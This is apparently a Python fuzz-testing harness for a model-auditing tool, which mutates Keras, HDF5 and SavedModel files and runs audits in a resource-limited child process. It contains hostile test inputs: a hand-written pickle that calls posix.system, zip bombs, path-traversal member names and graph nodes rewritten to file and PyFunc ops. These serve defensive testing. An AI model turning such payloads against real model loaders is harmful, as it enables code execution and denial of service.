    block = data[:64] if data[:8] == b"\x89HDF\r\n\x1a\n" and rng.random() < 0.5 else b"\x89HDF\r\n\x1a\n" + rng.randbytes(56)
    return data[:at] + block + data[at + 64:]


# ---- npz weights: members of model.weights.npz (Keras 3's npz writer) ----------------------------


def _pickle_text(rng) -> bytes:
    """A hand-written pickle (opcodes only, never built by pickling): a call of a dangerous global,
    deep nesting, memo games, byte strings that run past their member."""
    what = rng.randrange(6)
    if what == 0:
        return b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."
    if what == 1:
        return b"\x80\x04" + b"(" * rng.choice([10, 1000, 300_000]) + b"."
    if what == 2:
        return b"\x80\x04]" + b"\x94h\x00a" * rng.choice([10, 5000]) + b"."
    if what == 3:
        return b"\x80\x04\x8e" + struct.pack("<Q", rng.choice([1 << 40, 1 << 63, 2**64 - 1])) + b"."
    if what == 4:
        return b"\x80\x04j" + struct.pack("<I", 0xFFFFFFFF) + b"."
    return b"\x80\x04\x8c\x05numpy\x8c\x05dtype\x93X" + struct.pack("<I", 0xFFFFFFF0) + b"."


def _npy_member(header: bytes, body: bytes = b"", version=(1, 0)) -> bytes:
    fmt = "<H" if version == (1, 0) else "<I"
    return b"\x93NUMPY" + bytes(version) + struct.pack(fmt, len(header)) + header + body


NPZ_HEADERS = [
    b"{'descr': '|O', 'fortran_order': False, 'shape': (), }",
    b"{'descr': '|O', 'fortran_order': False, 'shape': (3,), }",
    b"{'descr': '<f4', 'fortran_order': False, 'shape': (1048576, 1048576), }",
    b"{'descr': '<f8', 'fortran_order': True, 'shape': (65536, 65536, 16), }",
    b"{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (), }",
    b"{'descr': '<f4', 'fortran_order': False, 'shape': (3, 4), }",
]


@op("zip", kinds=("keras",))
def npz_member(data, kind, rng, ctx):
    """A member of model.weights.npz changed: its pickle's bytes cut, flipped or replaced by a
    hand-written one, its header declaring huge or object shapes, renamed, duplicated, deflated."""
    entries = zip_entries(data)
    outer = next((i for i, (info, _) in enumerate(entries) if info.filename == "model.weights.npz"), None)
    _need(outer is not None)
    members = zip_entries(entries[outer][1])
    _need(members)
    at = rng.randrange(len(members))
    info, payload = members[at]
    what = rng.randrange(8)
    start = payload.find(b"\n", 10) + 1 if payload[:6] == b"\x93NUMPY" else 0
    if what == 0 and len(payload) > start:  # the pickle cut short
        payload = payload[: rng.randrange(start, len(payload))]
    elif what == 1 and len(payload) > start:  # bytes flipped inside the pickle
        body = bytearray(payload)
        for _ in range(rng.choice([1, 4, 32])):
            body[rng.randrange(start, len(body))] ^= 1 << rng.randrange(8)
        payload = bytes(body)
    elif what == 2:
        payload = _npy_member(rng.choice(NPZ_HEADERS[:2]).ljust(117) + b"\n", _pickle_text(rng))
    elif what == 3:
        header = rng.choice(NPZ_HEADERS)
        payload = _npy_member(header.ljust(117) + b"\n", rng.choice([b"", payload[start:], rng.randbytes(64)]))
    elif what == 4:  # a plain array where Keras keeps a layer's pickled variables
        payload = _npy_member(NPZ_HEADERS[5].ljust(117) + b"\n", b"\0" * 48)
    members = [(i, p, i.compress_type) for i, p in members]
    members[at] = (members[at][0], payload, rng.choice([None, zipfile.ZIP_DEFLATED]) if what == 7 else None)
    if what == 5:  # renamed
        renamed = copy.copy(members[at][0])
        renamed.filename = rng.choice(["../x.npy", "layers/dense.npy", "layers/dense/vars/0.npy", "x" * 3000, ""])
        members[at] = (renamed, payload, None)
    if what == 6:  # a second copy, the pickle of another member
        members.append((copy.copy(members[at][0]), members[rng.randrange(len(members))][1], None))
    rebuilt = [(i, p, i.compress_type) for i, p in entries]
    rebuilt[outer] = (entries[outer][0], build_zip(members), None)
    return build_zip(rebuilt)


# ---- SavedModel graphs: saved_model.pb edited as protobuf, without TensorFlow --------------------

# The messages walked into (field number -> message), from TensorFlow's .proto files; everything else
# is kept as bytes.
PB_MESSAGES = {
    "SavedModel": {2: "MetaGraphDef"},
    "MetaGraphDef": {2: "GraphDef", 3: "SaverDef"},
    "GraphDef": {1: "NodeDef", 2: "FunctionDefLibrary"},
    "FunctionDefLibrary": {1: "FunctionDef"},
    "FunctionDef": {1: "OpDef", 3: "NodeDef"},
    "NodeDef": {5: "AttrEntry"},
    "AttrEntry": {2: "AttrValue"},
    "AttrValue": {1: "ListValue", 10: "NameAttrList"},
    "ListValue": {9: "NameAttrList"},
}
GRAPH_OPS = ["WriteFile", "ReadFile", "MatchingFiles", "PyFunc", "EagerPyFunc", "SaveV2", "RestoreV2",
             "MergeV2Checkpoints", "PrintV2", "ImmutableConst", "InitializeTableFromTextFileV2",
             "StatefulPartitionedCall", "PartitionedCall", "If", "While", "Const", "NoOp", "", "x" * 3000]


def _pb_varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb_parse(data: bytes, name: str) -> list:
    """[field, wire, value] of a message: a submessage PB_MESSAGES names is parsed (a list), every
    other value kept as it is (int, or bytes). _NotApplicable if the bytes are not a message."""
    out, pos, children = [], 0, PB_MESSAGES.get(name, {})
    try:
        while pos < len(data):
            key, pos = _pb_read_varint(data, pos)
            number, wire = key >> 3, key & 7
            if wire == 0:
                value, pos = _pb_read_varint(data, pos)
            elif wire == 2:
                n, pos = _pb_read_varint(data, pos)
                value, pos = data[pos:pos + n], pos + n
                _need(pos <= len(data))
                if number in children:
                    value = pb_parse(value, children[number])
            elif wire in (1, 5):
                size = 8 if wire == 1 else 4
                value, pos = data[pos:pos + size], pos + size
            else:
                raise _NotApplicable()
            out.append([number, wire, value])
    except IndexError:
        raise _NotApplicable() from None
    return out


def _pb_read_varint(data: bytes, pos: int):
    result = shift = 0
    while True:
        b = data[pos]
        pos += 1
        result |= (b & 0x7F) << shift
        if b < 0x80:
            return result, pos
        shift += 7
        _need(shift < 70)


def pb_build(fields: list) -> bytes:
    out = bytearray()
    for number, wire, value in fields:
        out += _pb_varint(number << 3 | wire)
        if wire == 0:
            out += _pb_varint(value)
        elif wire == 2:
            raw = pb_build(value) if isinstance(value, list) else value
            out += _pb_varint(len(raw)) + raw
        else:
            out += value
    return bytes(out)


def _pb_all(fields: list, path: tuple) -> list:
    """Every submessage at `path` (field numbers) below `fields`."""
    found = [fields]
    for number in path:
        found = [v for msg in found for f, w, v in msg if f == number and isinstance(v, list)]
    return found


def _graph_nodes(model: list) -> list:
    """Every NodeDef: the main graph's (SavedModel.meta_graphs.graph_def.node) and each function's."""
    return _pb_all(model, (2, 2, 1)) + _pb_all(model, (2, 2, 2, 1, 3))


def _function_names(model: list) -> list:
    return [v.decode("utf-8", "replace") for sig in _pb_all(model, (2, 2, 2, 1, 1)) for f, w, v in sig
            if f == 1 and isinstance(v, bytes)] or ["none"]


def _set(msg: list, number: int, value) -> None:
    for field in msg:
        if field[0] == number:
            field[2] = value
            return
    msg.append([number, 2, value])


def _func_attr(key: str, function: str) -> list:
    return [1, 2, [[1, 2, key.encode()], [2, 2, [[10, 2, [[1, 2, function.encode()]]]]]]]


def _savedmodel_op(fn):
    """An operator on saved_model.pb's parsed message tree: fn(model, rng) edits it in place."""
    def operator(data, kind, rng, ctx):
        model = pb_parse(data, "SavedModel")
        _need(_graph_nodes(model))
        fn(model, rng)
        return pb_build(model)

    operator.__name__ = fn.__name__
    operator.__doc__ = fn.__doc__
    return op("proto", kinds=("savedmodel",))(operator)


@_savedmodel_op
def proto_op_name(model, rng):
    """Nodes' ops set to file and process ops, to a function of the library (a call, perhaps of
    itself), or to odd names."""
    nodes = _graph_nodes(model)
    for _ in range(rng.choice([1, 3, 50])):
        op_name = rng.choice(GRAPH_OPS + _function_names(model))
        _set(rng.choice(nodes), 2, op_name.encode("utf-8", "surrogatepass"))


@_savedmodel_op
def proto_calls(model, rng):
    """Function-valued attributes added to nodes: a function calling itself, a cycle, a name no
    function has, thousands of calls."""
    nodes, names = _graph_nodes(model), _function_names(model)
    for _ in range(rng.choice([1, 10, 2000])):
        node = rng.choice(nodes)
        node.append(_func_attr(rng.choice(["f", "then_branch", "body", "x"]), rng.choice(names + ["missing", ""])))


@_savedmodel_op
def proto_inputs(model, rng):
    """Node inputs: self-loops, control inputs to nothing, odd spellings, many."""
    nodes = _graph_nodes(model)
    for _ in range(rng.choice([1, 10, 500])):
        node = rng.choice(nodes)
        name = next((v for f, w, v in node if f == 1 and isinstance(v, bytes)), b"x")
        node.append([3, 2, rng.choice([name, b"^" + name, b"^", b":", b"x:99999999999", name * 500])])
    if rng.random() < 0.1:  # not UTF-8: the file is refused, as TensorFlow's parser refuses it
        rng.choice(nodes).append([3, 2, b"\xff\xfe"])


@_savedmodel_op
def proto_saver_def(model, rng):
    """saver_def's save and restore targets pointing at the serving nodes, at nothing, or gone."""
    for meta in _pb_all(model, (2,)):
        saver = next((v for f, w, v in meta if f == 3 and isinstance(v, list)), None)
        if saver is None:
            saver = []
            meta.append([3, 2, saver])
        names = [v for node in _pb_all(meta, (2, 1)) for f, w, v in node if f == 1 and isinstance(v, bytes)] or [b"x"]
        for number in (2, 3):
            _set(saver, number, rng.choice(names + [b"", b"missing:0", b":", b"\xff"]))


@_savedmodel_op
def proto_many_nodes(model, rng):
    """Nodes repeated many times (a graph much larger than the model's)."""
    graph = _pb_all(model, (2, 2))
    _need(graph)
    nodes = [f for f in graph[0] if f[0] == 1]
    _need(nodes)
    graph[0].extend([list(rng.choice(nodes)) for _ in range(rng.choice([100, 5000, 40_000]))])


@_savedmodel_op
def proto_node_bytes(model, rng):
    """A node's bytes replaced by garbage or cut short (the lengths around it kept consistent), or
    thousands of attribute entries with empty keys."""
    slots = [(msg, i) for msg in _pb_all(model, (2, 2)) for i, f in enumerate(msg) if f[0] == 1 and isinstance(f[2], list)]
    slots += [(msg, i) for msg in _pb_all(model, (2, 2, 2, 1)) for i, f in enumerate(msg)
              if f[0] == 3 and isinstance(f[2], list)]
    _need(slots)
    msg, i = rng.choice(slots)
    what = rng.randrange(3)
    if what == 0:
        msg[i][2] = rng.randbytes(rng.choice([1, 16, 300]))
    elif what == 1:
        raw = pb_build(msg[i][2])
        msg[i][2] = raw[: rng.randrange(max(len(raw), 1))]
    else:
        msg[i][2].extend([5, 2, b"\x0a\x00"] for _ in range(rng.choice([10, 10_000])))


LEVEL_OPS = {level: sorted(n for n, o in OPS.items() if o.level == level) for level in ("json", "zip", "hdf5", "bytes", "proto")}


# ---- the worker: audits in a child process with resource limits ---------------------------------

TIME_LIMIT = 5.0  # CPU seconds per command
# A command that waits (no CPU) is stopped at this many times the limit, wall clock. A long run on a
# machine shared with other jobs may raise it (bench/fuzz.py --wall-factor): the CPU limit is the bound.
WALL_FACTOR = float(os.environ.get("MODELAUDIT_FUZZ_WALL_FACTOR", "3"))
MEMORY_LIMIT = 512 * 1024 * 1024

# The commands run on every input, in turn (input i gets COMMANDS[i % len]): each output format's
# code path, the summary, and a configuration that enables every rule (the policy rules too).
FUZZ_CONFIG = """\
select = ["ALL"]
[rules.learning-rate-out-of-range]
max-lr = 0.5
[policy]
max-params = 1000
forbid-layers = ["Lambda", "Dense"]
max-file-mb = 1
require-compiled = true
max-layers = 3
inputs = [{shape = [16], dtype = "float32"}]
outputs = [{shape = ["*"], activation = "softmax"}]
"""

COMMANDS = [
    ["check", "--format", "json", "{path}"],
    ["summary", "{path}"],
    ["check", "--show-info", "{path}"],
    ["summary", "--format", "json", "--formulas", "{path}"],
    ["check", "--format", "sarif", "--config", "{config}", "{path}"],
    ["summary", "--formulas", "{path}"],
    ["check", "--format", "github", "{path}"],
    ["check", "--format", "markdown", "--config", "{config}", "{path}"],
    ["check", "--format", "gitlab", "{path}"],
    ["summary", "--format", "markdown", "{path}"],
    ["check", "--scan-weights", "--format", "json", "{path}"],
    ["check", "--scan-weights", "--config", "{config}", "{path}"],
]


class _Timeout(BaseException):
    pass


def worker_main() -> None:  # pragma: no cover - runs in the child
    """Read one JSON request per line ({"argv": [...], "limit": s}) and answer one JSON line.

    The worker imports modelaudit (and h5py, numpy) once, then forks a child for every command: the
    child starts where a fresh `modelaudit` process would be once imported, sets its own limits
    (RLIMIT_AS, a CPU timer), runs the CLI's typer app in-process on the arguments exactly as
    `modelaudit ARGV` would, and reports through a pipe. Whatever one command does to memory, or
    however it dies, the next starts clean; the worker itself enforces the wall clock."""
    import signal

    answer = os.fdopen(os.dup(1), "w", encoding="utf-8")
    devnull = os.open(os.devnull, os.O_WRONLY)
    os.dup2(devnull, 1)
    os.dup2(devnull, 2)
    from modelaudit.cli import app

    import h5py  # noqa: F401  - loaded once, as a real run loads them for its first HDF5 file
    import numpy  # noqa: F401

    signal.signal(signal.SIGCHLD, signal.SIG_DFL)
    # Warm up once, so that every child starts with what a run imports on its way (the rules, the
    # specs, the readers, the reporters) already imported, as the worker's own first run would have.
    import contextlib
    import gc

    sample = ROOT / "samples" / "multi_input_functional.keras"
    for argv in (["check", "--format", "sarif", "--scan-weights", str(sample)], ["summary", "--formulas", str(sample)],
                 ["check", "--format", "gitlab", str(ROOT / "samples" / "mnist_classifier_keras2.h5")]):
        with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
            try:
                app(args=argv, prog_name="modelaudit")
            except BaseException:
                pass
    for name, module in list(sys.modules.items()):  # nothing of the warm-up's models is kept
        if name.startswith("modelaudit.") and isinstance(getattr(module, "_CACHE", None), dict):
            module._CACHE.clear()
    gc.collect()
    gc.freeze()  # the children's garbage collector leaves the inherited objects (and their pages) alone
    answer.write(json.dumps({"ready": os.getpid()}) + "\n")
    answer.flush()
    for line in sys.stdin:
        req = json.loads(line)
        limit = float(req.get("limit", TIME_LIMIT))
        read_end, write_end = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(read_end)
            code = 0
            try:
                reply = _run_command(app, req["argv"], limit)
                data = json.dumps(reply).encode("utf-8")
                view = memoryview(data)
                while view:
                    view = view[os.write(write_end, view):]
            except BaseException:
                code = 70
            os._exit(code)
        os.close(write_end)
        # past the wall clock, a few seconds more for the child to say where it was (SIGUSR1), then killed
        reply = _collect(pid, read_end, limit * WALL_FACTOR + min(5.0, max(1.0, limit * WALL_FACTOR)))
        answer.write(json.dumps(reply) + "\n")
        answer.flush()


def _collect(pid: int, fd: int, wall: float) -> dict:
    """The child's reply, or what became of it: killed past `wall` seconds ("hang"), or dead."""
    import signal
    import time

    chunks, deadline, hung = [], time.monotonic() + wall, False
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            hung = True
            os.kill(pid, signal.SIGUSR1)  # where it is, into hang.log (faulthandler)
            time.sleep(0.5)
            os.kill(pid, signal.SIGKILL)
            break
        ready, _, _ = select.select([fd], [], [], min(left, 1.0))
        if ready:
            chunk = os.read(fd, 1 << 20)
            if not chunk:
                break
            chunks.append(chunk)
    os.close(fd)
    _, status = os.waitpid(pid, 0)
    if hung:
        try:
            with open("hang.log") as f:
                where = [ln.strip() for ln in f if "File" in ln]
        except OSError:
            where = []
        return {"hang": True, "where": where[:3]}
    if not chunks or os.WIFSIGNALED(status) or os.WEXITSTATUS(status) != 0:
        how = f"signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status) else f"exit status {os.WEXITSTATUS(status)}"
        return {"died": how}
    return json.loads(b"".join(chunks))


def _run_command(app, argv: list, limit: float) -> dict:  # pragma: no cover - runs in the forked child
    import faulthandler
    import resource
    import signal
    import time
    import traceback

    memory = int(os.environ.get("MODELAUDIT_FUZZ_MEMORY", MEMORY_LIMIT))
    try:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
    except (ValueError, OSError):  # macOS does not enforce RLIMIT_AS: the time limit still holds
        pass
    # Whatever C code writes to fd 1 or 2 (HDF5's error stack, say) lands here and is reported.
    capture = tempfile.TemporaryFile()
    os.dup2(capture.fileno(), 1)
    os.dup2(capture.fileno(), 2)
    # A hang inside C code never returns to Python for a timer to fire: the worker kills the child
    # at the wall-clock limit, first asking it (SIGUSR1) to write where it was into this file. A signal
    # handler, not faulthandler's watchdog thread: a thread's stack and arena would take 70 MB of the
    # address space the limit is about.
    hang_log = open("hang.log", "w")
    faulthandler.register(signal.SIGUSR1, file=hang_log)

    def on_timer(signum, frame):
        raise _Timeout("cpu" if signum == signal.SIGPROF else "wall")

    # The limit is on CPU time (ITIMER_PROF: user + system), so that other processes on a shared
    # machine do not count against the tool; a blocking wait uses no CPU and is caught by the wall
    # clock instead (ITIMER_REAL, WALL_FACTOR times the limit).
    signal.signal(signal.SIGPROF, on_timer)
    signal.signal(signal.SIGALRM, on_timer)
    # As a real terminal: UTF-8, stdout strict, stderr backslashreplace (Python's defaults).
    out_buf, err_buf = io.BytesIO(), io.BytesIO()
    out = io.TextIOWrapper(out_buf, encoding="utf-8", errors="strict", write_through=True)
    err = io.TextIOWrapper(err_buf, encoding="utf-8", errors="backslashreplace", write_through=True)
    sys.stdout, sys.stderr = out, err
    code, timeout = None, False
    start, cpu_start = time.perf_counter(), time.process_time()
    try:
        signal.setitimer(signal.ITIMER_PROF, limit)
        signal.setitimer(signal.ITIMER_REAL, limit * WALL_FACTOR)
        try:
            if argv and argv[0] == "__selftest__":  # the harness's own tests: what it must catch
                _selftest(argv[1])
            else:
                # as the console script runs it (cli.main): with Python's cyclic collector off
                import gc

                gc.disable()
                app(args=argv, prog_name="modelaudit")
            code = 0
        except SystemExit as exc:
            if exc.code is None:
                code = 0
            elif isinstance(exc.code, int):
                code = exc.code
            else:
                print(exc.code, file=sys.stderr)
                code = 1
        finally:
            signal.setitimer(signal.ITIMER_PROF, 0)
            signal.setitimer(signal.ITIMER_REAL, 0)
    except _Timeout as which:
        timeout = which.args[0]  # the clock that ran out: "cpu" or "wall"
    except KeyboardInterrupt:
        code = 130
    except BaseException:  # what the interpreter would print for an escaped exception
        try:
            traceback.print_exc(file=sys.stderr)
        except BaseException:
            err_buf.write(b"Traceback (unprintable)\n")
        code = 1
    seconds, cpu_seconds = time.perf_counter() - start, time.process_time() - cpu_start
    try:
        out.flush()
        err.flush()
    except Exception:
        pass
    capture.seek(0)
    c_output = capture.read(10000)
    return {
        "code": code, "timeout": timeout, "seconds": seconds, "cpu_seconds": round(cpu_seconds, 3),
        "wall_limit": limit * WALL_FACTOR,
        "stdout": out_buf.getvalue().decode("utf-8", "backslashreplace"),
        "stderr": err_buf.getvalue().decode("utf-8", "backslashreplace"),
        "c_output": c_output.decode("utf-8", "backslashreplace"),
        "maxrss_kb": _status_kb("VmHWM"), "vmpeak_kb": _status_kb("VmPeak"),
        "rlimit_as": resource.getrlimit(resource.RLIMIT_AS)[0],
    }


def _selftest(what: str) -> None:  # pragma: no cover - runs in the forked child
    """Misbehave on purpose, so that tests can show the harness notices: a crash, a spin, a blocking
    wait, a wait with every signal blocked (as a hang in C code is), a large allocation."""
    import signal
    import time

    if what == "crash":
        os.kill(os.getpid(), signal.SIGSEGV)
    elif what == "spin":
        while True:
            pass
    elif what == "sleep":
        time.sleep(3600)
    elif what == "blocked":
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGPROF})
        time.sleep(3600)
    elif what == "allocate":
        blocks = [bytearray(64 << 20) for _ in range(64)]  # 4 GiB
        del blocks


def _status_kb(key: str) -> int:
    try:
        with open("/proc/self/status") as f:
            for line in f:
                if line.startswith(key + ":"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


@dataclass
class Result:
    """What the checks found for one input: the violations (empty = it held), and facts for the record."""

    violations: list
    codes: list
    seconds: float  # CPU seconds of the slower command
    unreadable: bool


class _Worker:
    """One worker process (which forks a child per command), restarted should it ever stop answering."""

    def __init__(self, harness: "Harness", folder: Path):
        self.harness, self.proc = harness, None
        self.folder = folder  # its own working folder: a hanging child writes where it was to hang.log there
        folder.mkdir(parents=True, exist_ok=True)

    def start(self) -> None:
        h = self.harness
        # The environment of a real run (numpy's BLAS threads included: their stacks are part of the
        # address space a real `modelaudit` process has, and so of what the limit leaves).
        env = dict(os.environ, MODELAUDIT_FUZZ_MEMORY=str(h.memory_limit), TF_CPP_MIN_LOG_LEVEL="3",
                   MODELAUDIT_FUZZ_WALL_FACTOR=str(h.wall_factor),
                   NO_COLOR="1",
                   PYTHONPATH=os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")])))
        env.pop("PYTHONWARNINGS", None)
        self.proc = subprocess.Popen(
            [sys.executable, "-c", "from tests.hostile.mutations import worker_main; worker_main()"],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, cwd=str(self.folder),
            env=env, text=True, encoding="utf-8", bufsize=1,
        )
        ready = self._read(60.0)
        if not ready or "ready" not in ready:
            raise RuntimeError("the fuzz worker did not start")

    def close(self) -> None:
        if self.proc is not None:
            try:
                self.proc.stdin.close()
                self.proc.wait(timeout=5)
            except Exception:
                self.proc.kill()
                self.proc.wait()
            self.proc = None

    def _read(self, timeout: float):
        ready, _, _ = select.select([self.proc.stdout], [], [], timeout)
        if not ready:
            return None
        line = self.proc.stdout.readline()
        return json.loads(line) if line else {}

    def send(self, argv: list) -> None:
        if self.proc is None:
            self.start()
        try:
            self.proc.stdin.write(json.dumps({"argv": argv, "limit": self.harness.time_limit}) + "\n")
            self.proc.stdin.flush()
        except (BrokenPipeError, OSError):
            pass

    def receive(self) -> dict:
        """The reply to the command sent. The worker reports a child that hangs or dies; a worker that
        does not answer in time is killed and replaced."""
        h = self.harness
        reply = self._read(h.time_limit * h.wall_factor + 5.0 + h.grace)
        if reply is None:
            self.proc.kill()
            self.proc.wait()
            self.proc = None
            h.restarts += 1
            return {"hang": True, "where": ["the worker itself"]}
        if not reply:  # EOF: the worker died (the kernel's OOM killer...)
            rc = self.proc.wait()
            self.proc = None
            h.restarts += 1
            return {"died": f"the worker, exit status {rc}"}
        return reply


class Harness:
    """The parent side: two workers (_Worker), so that an input's two commands run at once, one per
    core, each in its own forked child under the same limits (a command's CPU time is its own)."""

    def __init__(self, workdir, time_limit: float = TIME_LIMIT, memory_limit: int = MEMORY_LIMIT,
                 grace: float = 10.0, wall_factor: float = WALL_FACTOR, workers: int = 2):
        self.wall_factor = wall_factor
        self.workdir = Path(workdir)
        self.workdir.mkdir(parents=True, exist_ok=True)
        self.time_limit, self.memory_limit, self.grace = time_limit, memory_limit, grace
        self.config = self.workdir / "modelaudit.toml"
        self.config.write_text(FUZZ_CONFIG)
        self.workers = [_Worker(self, self.workdir / f"worker{i}") for i in range(max(1, workers))]
        self.restarts = 0  # a worker itself stopped answering (a command's child dying is not this)
        self.count = 0
        self.max_wall = 0.0
        self.max_cpu = 0.0

    def start(self) -> None:
        for worker in self.workers:
            worker.start()

    def close(self) -> None:
        for worker in self.workers:
            worker.close()

    def run(self, argv: list) -> dict:
        """One command, in a child of the first worker."""
        self.workers[0].send(argv)
        return self.workers[0].receive()

    def run_all(self, argvs: list) -> list:
        """Commands at once, one per worker (in turns when there are more commands than workers)."""
        replies = []
        for at in range(0, len(argvs), len(self.workers)):
            batch = list(zip(self.workers, argvs[at:at + len(self.workers)]))
            for worker, argv in batch:
                worker.send(argv)
            replies.extend(worker.receive() for worker, _ in batch)
        return replies

    def check(self, path, variant: Optional[int] = None) -> Result:
        """Audit one input with two commands and hold them to the invariants."""
        path = Path(path)
        before = _digest(path)
        listing = sorted(os.listdir(path.parent))
        variant = self.count if variant is None else variant
        self.count += 1
        commands = [COMMANDS[(2 * variant) % len(COMMANDS)], COMMANDS[(2 * variant + 1) % len(COMMANDS)]]
        argvs = [[a.format(path=str(path), config=str(self.config)) for a in template] for template in commands]
        violations, codes, seconds, unreadable = [], [], 0.0, False
        for template, argv, reply in zip(commands, argvs, self.run_all(argvs)):
            problems = invariants(reply, str(path), argv, self.time_limit)
            violations.extend(f"`modelaudit {' '.join(template[:-1])}`: {p}" for p in problems)
            codes.append(reply.get("code"))
            seconds = max(seconds, reply.get("cpu_seconds") or 0.0)
            self.max_wall = max(self.max_wall, reply.get("seconds") or 0.0)
            self.max_cpu = max(self.max_cpu, reply.get("cpu_seconds") or 0.0)
            unreadable = unreadable or ": cannot read: " in reply.get("stderr", "")
        if _digest(path) != before:
            violations.append("the input's bytes changed")
        if sorted(os.listdir(path.parent)) != listing:
            violations.append("files appeared or vanished beside the input")
        return Result(violations, codes, seconds, unreadable)


def _digest(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


MEMORY_SIGNS = ("MemoryError", "too large to read", "too large to recompute")


def invariants(reply: dict, path: str, argv: list, time_limit: float) -> list[str]:
    """The hostile-input contract for one command's run; the list of what broke it."""
    if reply.get("hang"):
        return [f"hung: no answer within {time_limit * WALL_FACTOR:g} s of wall clock plus grace; the worker was "
                f"killed; it was in {' < '.join(reply.get('where') or ['C code'])}"]
    if "died" in reply:
        return [f"the process died ({reply['died']}): a crash, or memory the limit refused in C code"]
    if reply.get("timeout") == "wall":
        wall = reply.get("wall_limit", time_limit * WALL_FACTOR)
        return [f"waited past {wall:g} s of wall clock ({reply.get('cpu_seconds')} s of CPU)"]
    if reply.get("timeout"):
        return [f"took longer than {time_limit:g} s of CPU time"]
    out, err, code = reply["stdout"], reply["stderr"], reply["code"]
    problems = []
    if code not in (0, 1, 2):
        problems.append(f"exit code {code!r}")
    for stream, text in (("stdout", out), ("stderr", err), ("C-level output", reply["c_output"])):
        if "Traceback" in text:
            problems.append(f"a traceback on {stream}: {_tail(text)}")
    if reply["c_output"]:
        problems.append(f"C code wrote to the terminal: {_tail(reply['c_output'])}")
    lines = err.splitlines()
    cannot = [ln for ln in lines if ln.startswith(f"{path}: cannot read: ")]
    internal = [ln for ln in lines if ln.startswith(f"{path}: internal error in ")]
    stray = [ln for ln in lines if ln not in cannot and ln not in internal]
    if internal:
        problems.append(f"a rule raised (contained, but a bug): {_tail(internal[0])}")
    if stray and "Traceback" not in err:
        problems.append(f"stderr holds more than the one line: {_tail(err)}")
    if len(cannot) > 1:
        problems.append(f"{len(cannot)} `cannot read` lines for one file")
    if cannot and not cannot[0][len(path) + len(": cannot read: "):].strip():
        problems.append("`cannot read` with no reason")
    if any(sign in err or sign in out for sign in MEMORY_SIGNS):
        problems.append(f"the memory bound was reached (a MemoryError was caught): {_tail(err or out)}")
    command, fmt = argv[0], _option(argv, "--format", "text")
    if code == 2 and not (cannot or internal):
        problems.append("exit 2 without saying why")
    if (cannot or internal) and code != 2:
        problems.append(f"unreadable but exit {code}")
    if command == "summary" and code not in (0, 2):
        problems.append(f"summary exited {code}")
    if code in (0, 1) and not out.strip() and fmt not in ("github", "gitlab"):
        problems.append("no report on stdout")
    if command == "check" and fmt in ("json", "sarif", "gitlab"):
        try:
            doc = json.loads(out)
        except ValueError as exc:
            problems.append(f"{fmt} output is not JSON ({exc})")
        else:
            if fmt == "json":
                entry = doc["files"][0]
                if cannot and entry.get("error") != cannot[0].split(": cannot read: ", 1)[1]:
                    problems.append("the JSON `error` differs from the `cannot read` line")
                if entry.get("error") is not None and "\n" in str(entry["error"]):
                    problems.append("the JSON `error` is more than one line")
    if command == "summary" and fmt == "json" and code == 0:
        try:
            json.loads(out)
        except ValueError as exc:
            problems.append(f"summary json output is not JSON ({exc})")
    return problems


def _option(argv: list, name: str, default: str) -> str:
    return argv[argv.index(name) + 1] if name in argv else default


def _tail(text: str, n: int = 400) -> str:
    text = " | ".join(text.strip().splitlines()[-6:])
    return text if len(text) <= n else text[:n] + "..."


def hostile_cases() -> list:
    """Not random: the issue's named attacks, each from a real file by a structural mutation (a few
    fixed integers), so that every run of the CI suite holds them."""
    return [
        Case("multi_input_functional.keras", (("json_inbound_nodes", 5),)),
        Case("multi_input_functional.keras", (("json_inbound", 1),)),
        Case("k3_functional.keras", (("json_rename", 3),)),
        Case("k2_functional.h5", (("json_deep_nest", 7),)),
        Case("mnist_classifier.keras", (("zip_bomb", 11),)),
        Case("mnist_classifier.keras", (("zip_duplicate", 2),)),
        Case("mnist_classifier.keras", (("zip_member_name", 4),)),
        Case("mnist_classifier.keras", (("zip_weights_not_hdf5", 6),)),
        Case("mnist_classifier_keras2.h5", (("hdf5_links", 3),)),
        Case("k3_functional.keras", (("hdf5_shape", 1),)),
        Case("k2_rich.h5", (("hdf5_truncate", 9),)),
    ]


# ---- hypothesis ----------------------------------------------------------------------------------


def cases_strategy(levels=None, seeds=None, max_steps: int = 3, exclude=()):
    """Hypothesis strategy for a Case: a seed, then 1..max_steps operators that apply to it, in `stage`
    order (JSON edits, h5py edits, raw HDF5 bytes, zip, raw bytes)."""
    from hypothesis import strategies as st

    names = sorted(seeds or [n for n, k in SEED_KINDS.items() if k not in FOLDER_KINDS])

    @st.composite
    def build(draw):
        seed = draw(st.sampled_from(names))
        kind = SEED_KINDS[seed]
        ops = [o for o in (ops_for(kind, levels) or ops_for(kind)) if o not in exclude]
        steps = draw(st.lists(st.tuples(st.sampled_from(ops), st.integers(0, 2**32 - 1)), min_size=1,
                              max_size=max_steps))
        steps.sort(key=lambda s: stage(s[0]))
        return Case(seed, tuple(steps))

    return build()
